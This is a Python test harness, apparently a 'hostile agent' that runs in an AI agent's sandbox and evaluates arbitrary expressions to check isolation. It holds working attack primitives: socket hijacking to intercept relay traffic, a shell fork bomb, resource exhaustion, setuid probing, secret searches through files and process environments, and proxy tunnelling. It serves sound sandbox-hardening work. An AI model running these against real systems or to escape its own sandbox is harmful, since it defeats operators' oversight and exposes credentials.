"""A hostile agent: what runs inside the worklet in Claude's place, and does whatever a prompt says.

Each prompt's text is a JSON list of expressions, with a name for the answer. Each expression is evaluated in a process
of its own, so that one that is killed, or never ends, is a result like any other.
"""

# ruff: noqa: BLE001, SIM115 - every end is a result; expressions use the modules; each process is short-lived
import contextlib
import ctypes
import glob
import http.client
import json
import os
import resource
import select
import signal
import socket
import subprocess
import sys
import time
import urllib.parse

RUN = "/run/worklet"
libc = ctypes.CDLL(None, use_errno=True)


# ---- network -----------------------------------------------------------------------------------------------------


def tcp(host, port):
    family = socket.AF_INET6 if ":" in host else socket.AF_INET
    with socket.socket(family) as s:
        s.settimeout(2)
        s.connect((host, port))
        return "CONNECTED"


def udp(host, port):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.sendto(b"x", (host, port))
        return "SENT"


def resolve(name):
    return socket.getaddrinfo(name, 443)


def opened(family, kind, protocol=0):
    with socket.socket(family, kind, protocol):
        return "OPENED"


def unix(path):
    if not path.startswith("\0"):  # abstract: it is no path
        directory, name = os.path.split(path)
        path = f"/proc/self/fd/{os.open(directory, os.O_PATH)}/{name}"  # an address holds 107 bytes
    with socket.socket(socket.AF_UNIX) as s:
        s.connect(path)
        return "CONNECTED"


def routes():
    found = [line.split() for line in open("/proc/net/route").read().splitlines()[1:]]
    return [*found, *(line.split()[-1] for line in open("/proc/net/ipv6_route") if line.split()[-1] != "lo")]


# ---- the gateway and the relay -----------------------------------------------------------------------------------


def door():
    return urllib.parse.urlsplit(os.environ["ANTHROPIC_BASE_URL"])


def ask(token, path="/v1/messages", method="POST", **headers):
    connection = http.client.HTTPConnection(door().hostname, door().port, timeout=20)
    headers = {name.replace("_", "-"): value for name, value in headers.items()}
    if token is not None:
        headers["x-api-key"] = token
    connection.request(method, path, body=b"{}" if method == "POST" else None, headers=headers)
    answer = connection.getresponse()
    return f"{answer.status} {answer.read()[:300].decode(errors='replace')}"


def store(token, worklet=None):
    """Asks the key-value store for a value, as its client does."""
    connection = http.client.HTTPConnection(door().hostname, door().port, timeout=20)
    asked = {"p_namespace": "default", "p_key": "k", **({"p_worklet_id": worklet} if worklet else {})}
    headers = {"content-type": "application/json"} | ({"authorization": f"Bearer {token}"} if token else {})
    connection.request("POST", "/rest/v1/rpc/kv_get", body=json.dumps(asked), headers=headers)
    answer = connection.getresponse()
    return f"{answer.status} {answer.read()[:300].decode(errors='replace')}"


def raw(data, port=None):
    with socket.create_connection((door().hostname, port or door().port), timeout=20) as s:
        s.sendall(data)
        return s.recv(200).decode(errors="replace")


def proxied(head):
    """What the way out answers."""
    way = urllib.parse.urlsplit(os.environ["HTTP_PROXY"])
    with socket.create_connection((way.hostname, way.port), timeout=60) as s:
        s.sendall(head)
        return s.recv(300).decode(errors="replace")


def through(url, host=None):
    host = host or urllib.parse.urlsplit(url).netloc
    return proxied(f"GET {url} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode())


def tunnel(target):
    return proxied(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())


def own():
    return os.environ["ANTHROPIC_API_KEY"]


def plain(hidden):
    """What the test wrote so that the prompt itself, which is in the journal, does not have it."""
    return "".join(chr(ord(c) ^ 1) for c in hidden)


def relay(data):
    with socket.socket(socket.AF_UNIX) as s:
        s.settimeout(20)
        s.connect(f"{RUN}/relay.sock")
        s.sendall(data)
        return s.recv(100).decode(errors="replace")


def stand_between():
    """Takes the relay's place at its socket, and joins who comes with the relay, for as long as the worklet lives.

    What either side says is kept in `heard`.
    """
    os.rename(f"{RUN}/relay.sock", f"{RUN}/moved.sock")
    listener = in_the_relays_place()
    if listener is None:
        return "LISTENS"
    joined = {}
    while True:
        for one in select.select([listener, *joined], [], [])[0]:
            if one is listener:
                flow, relay = listener.accept()[0], socket.socket(socket.AF_UNIX)
                relay.connect(f"{RUN}/moved.sock")
                joined[flow], joined[relay] = relay, flow
                continue
            if one not in joined:
                continue  # its other side has just ended
            data = b""
            with contextlib.suppress(OSError), open(f"{RUN}/heard", "ab") as heard:
                data = one.recv(1 << 16)
                heard.write(data)
                joined[one].sendall(data)
            if not data:
                other = joined.pop(one)
                del joined[other]
                one.close()
                other.close()


def stand_in():
    """The same, alone: it says what a relay of an older Flow says, to which its token was given."""
    os.unlink(f"{RUN}/relay.sock")
    listener = in_the_relays_place()
    if listener is None:
        return "LISTENS"
    while True:
        flow = listener.accept()[0]
        with open(f"{RUN}/heard", "ab") as heard:
            heard.write(flow.recv(1 << 16))
        flow.sendall(b"HTTP/1.1 401 Unauthorized\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
        flow.close()


def in_the_relays_place():
    """The listener, in a process of its own that goes on; None in the one that called."""
    listener = socket.socket(socket.AF_UNIX)
    listener.bind(f"{RUN}/relay.sock")
    os.chmod(f"{RUN}/relay.sock", 0o666)
    listener.listen()
    if os.fork():
        return None
    os.setsid()
    detach()
    return listener


def detach():
    """What the parent reads until its end is not held open."""
    for name in os.listdir("/proc/self/fd"):
        with contextlib.suppress(OSError):
            if os.readlink(f"/proc/self/fd/{name}").startswith("pipe:"):
                os.close(int(name))


def relay_pid():
    for path in glob.glob("/proc/[0-9]*/cmdline"):
        words = open(path, "rb").read().split(b"\0")
        if b"/opt/relay/relay.py" in words and words[0].endswith(b"python3"):
            return int(path.split("/")[2])
    raise LookupError("no relay")


def stop_unborn():
    """What the relay says to who asks while one is stopped."""
    with unborn() as pid:
        said = relay(f"GET / HTTP/1.1\r\nHost: x\r\nRelay-Nonce: {'0' * 32}\r\n\r\n".encode())
        return f"{said[:12]}, {'with' if is_relays(pid) else 'without'} one stopped"


def limit_by_thread():
    """Takes the relay's open files, under the number of the thread that starts the program."""
    with unborn():
        thread = next(int(number) for number in os.listdir(f"/proc/{relay_pid()}/task") if int(number) != relay_pid())
        return resource.prlimit(thread, resource.RLIMIT_NOFILE, (0, 0))


@contextlib.contextmanager
def unborn(seconds=50):
    """Has the relay start programs, until one is stopped before its exec: its number."""
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        with socket.socket(socket.AF_UNIX) as s:
            s.connect(f"{RUN}/inside.sock")
            last = newest()
            s.sendall(b'{"start": "true"}\n')
            pid = stopped(range(last + 1, last + 5))
            if pid is None:
                continue
            if is_relays(pid):
                try:
                    yield pid
                finally:
                    os.kill(pid, signal.SIGKILL)
                return
            with contextlib.suppress(OSError):  # it has ended
                os.kill(pid, signal.SIGCONT)
    raise TimeoutError("none was stopped in time")


def is_relays(pid):
    return read_if(f"/proc/{pid}/cmdline") == read_if(f"/proc/{relay_pid()}/cmdline") != ""


def newest():
    """The number of a process that has just been made: the next ones, threads among them, get the next."""
    pid = os.fork()
    if not pid:
        os._exit(0)
    os.waitpid(pid, 0)
    return pid


def stopped(numbers, seconds=1):
    """The first process among them, stopped as soon as it comes to be. None: it has ended, or none came."""
    left, end = list(numbers), time.monotonic() + seconds
    while time.monotonic() < end:
        for pid in left:
            try:
                os.kill(pid, signal.SIGSTOP)
            except OSError:
                continue
            if f"Tgid:\t{pid}\n" not in read_if(f"/proc/{pid}/status"):
                left.remove(pid)
                break
            while said := read_if(f"/proc/{pid}/stat"):
                if said.rpartition(")")[2].split()[0] in "TZX":  # the call that it is in ends first: its exec, say
                    return pid
            return None
    return None


# ---- files and the kernel ----------------------------------------------------------------------------------------


def read(path):
    with open(path, "rb") as file:
        return file.read(4000)


def write(path, text="1"):
    with open(path, "w") as file:
        file.write(text)
    return "WRITTEN"


def call(name, *arguments):
    """A function of the C library; raises OSError like Python's own."""
    ctypes.set_errno(0)
    if getattr(libc, name)(*arguments) == -1:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return "DONE"


def trap(number, *arguments):
    """A system call by its number on this processor (x86-64, or what arm64 has)."""
    return call("syscall", number[os.uname().machine == "aarch64"] if isinstance(number, tuple) else number, *arguments)


def sockets_in(*roots):
    found = []
    for root in roots:
        for folder, _, names in os.walk(root):
            for name in names:
                with contextlib.suppress(OSError):
                    if os.stat(os.path.join(folder, name), follow_symlinks=False).st_mode & 0o170000 == 0o140000:
                        found.append(os.path.join(folder, name))
    return sorted(found)


def setuid_programs():
    """Runs each program of another user that claims that user's rights; who they became."""
    found = subprocess.run(
        ["find", "/", "-xdev", "-perm", "/6000", "-type", "f", "-not", "-path", "/proc/*"],
        stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True,
    ).stdout.split()  # fmt: skip
    became = set()
    for path in found:
        with contextlib.suppress(OSError):
            one = subprocess.Popen([path], stdin=subprocess.PIPE, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
            with contextlib.suppress(OSError):
                became.add(next(line for line in open(f"/proc/{one.pid}/status") if line.startswith("Uid")).split()[2])
            one.kill()
            one.wait()
    return f"{len(found)} programs, effective users {sorted(became)}"


def status(*names):
    return " ".join(" ".join(line.split()) for line in open("/proc/self/status") if line.startswith(names))


def link(target, path):
    subprocess.run(["rm", "-rf", path], check=True)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    os.symlink(target, path)
    return "LINKED"


# ---- eating --------------------------------------------------------------------------------------------------------


def forks():
    """Forks until it cannot."""
    children = []
    try:
        while len(children) < 100_000:
            child = os.fork()
            if not child:
                signal.pause()
            children.append(child)
    except OSError as error:
        return f"{len(children)} processes, then {error.strerror}"
    finally:
        for child in children:
            os.kill(child, signal.SIGKILL)
            os.waitpid(child, 0)
    return "NO LIMIT"


def orphans(count):
    """Leaves so many to whoever collects what nobody waits for; how many are still there after a while."""
    subprocess.run(["bash", "-c", f"for i in $(seq {count}); do (sleep 0.0$((i % 10)) &) ; done"], check=True)
    end, left = time.monotonic() + 50, [""]
    while left and time.monotonic() < end:
        time.sleep(0.1)
        left = [path for path in glob.glob("/proc/[0-9]*/stat") if ") Z 1 " in read_if(path)]
    return f"{len(left)} left"


def read_if(path):
    try:
        return open(path).read()
    except OSError:
        return ""


def forks_one():
    return "DONE" if not subprocess.run(["true"]).returncode else "FAILED"


def smother(path, size):
    """Takes all processors and all processes, and then writes to the disk: nobody is to measure that."""
    taken = 0
    try:
        while True:
            if not os.fork():
                while True:
                    pass
            taken += 1
    except OSError:
        said = fill(path, size)
        os.sync()
        return f"{taken} processes, {said}"


def bomb():
    """The one of the shell, and nobody ends it."""
    subprocess.Popen(["setsid", "bash", "-c", "b(){ b|b& };b"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    time.sleep(2)
    return len(glob.glob("/proc/[0-9]*"))


def eat(most):
    held = []
    for _ in range(most >> 20):
        held.append(b"x" * (1 << 20))
    return "NO LIMIT"


def fill(path, most):
    written = 0
    try:
        with open(path, "wb", buffering=0) as file:
            while written < most:
                written += file.write(b"x" * (1 << 20))
    except OSError as error:
        return f"{written >> 20} MiB, then {error.strerror}"
    return "NO LIMIT"


def hold_files():
    held = []
    try:
        while len(held) < 1_000_000:
            held.append(os.open("/dev/null", os.O_RDONLY))
    except OSError as error:
        return f"{len(held)} files, then {error.strerror}"
    return "NO LIMIT"


def hold_connections(count):
    """Opens so many to the gateway at once, asks half of something on each; on how many the rest is waited for."""
    held = []
    for _ in range(count):
        s = socket.create_connection((door().hostname, door().port), timeout=20)
        with contextlib.suppress(OSError):
            head = f"POST /v1/messages HTTP/1.1\r\nhost: x\r\nx-api-key: {own()}\r\ncontent-length: 9\r\n\r\n"
            s.sendall(head.encode())
        held.append(s)
    kept, end = held, time.monotonic() + 50
    while len(kept) > 64 and time.monotonic() < end:
        time.sleep(0.2)
        kept = [s for s in kept if not answered(s)]
    return f"{count} opened, {len(kept)} kept"


def answered(s):
    """That it is too many, or by its end."""
    s.setblocking(False)
    try:
        return s.recv(1) is not None
    except BlockingIOError:
        return False
    except OSError:
        return True


def say(data):
    """On the stdout that the relay reads."""
    view = memoryview(data)
    while view:
        view = view[os.write(1, view) :]
    return "SAID"


def say_long(size):
    """One line of that many bytes."""
    for _ in range(size >> 16):
        say(b"x" * (1 << 16))
    return say(b"\n")


def secret_in(secrets, *roots):
    """Files with one of them, below the roots, looked for by grep."""
    done = subprocess.run(
        ["grep", "-rlaF", "--devices=skip", "-f", "/dev/stdin", *roots],
        input="\n".join(map(plain, secrets)), stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True,
    )  # fmt: skip
    return sorted(done.stdout.splitlines())


def secret_in_processes(secrets):
    """Of which processes environment or command line can be read, and has one of them."""
    found, seen = [], 0
    for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
        with contextlib.suppress(OSError):
            content = open(path, "rb").read().decode(errors="replace")
            seen += 1
            found += [path for secret in secrets if plain(secret) in content]
    return f"{found} in {'some' if seen else 'none'}"


# ---- the loop ------------------------------------------------------------------------------------------------------


def outcome(expression, seconds):
    reader, writer = os.pipe()
    child = os.fork()
    if not child:
        os.close(reader)
        try:
            said = str(eval(expression, globals()))
        except BaseException as error:
            said = f"{type(error).__name__}: {error}"
        with contextlib.suppress(BaseException):
            os.write(writer, said.encode()[:4000])
        os._exit(0)
    os.close(writer)
    told, late = b"", False
    while len(told) < 4000:
        late = not select.select([reader], [], [], seconds)[0]
        if late or not (piece := os.read(reader, 4096)):
            break
        told += piece
    os.close(reader)
    if late:
        os.kill(child, signal.SIGKILL)
    ended = os.waitpid(child, 0)[1]
    if late:
        return f"no end within {seconds} s"
    return told.decode(errors="replace") if told else f"killed by signal {ended & 127}"


def main():
    for line in sys.stdin:
        message = json.loads(line)
        if message.get("type") != "user":
            continue
        asked = json.loads(message["message"]["content"])
        told = [outcome(expression, asked["seconds"]) for expression in asked["do"]]
        draft = f"{RUN}/.{asked['name']}"
        with open(draft, "w") as file:
            json.dump(told, file)
        os.rename(draft, f"{RUN}/{asked['name']}")


main()
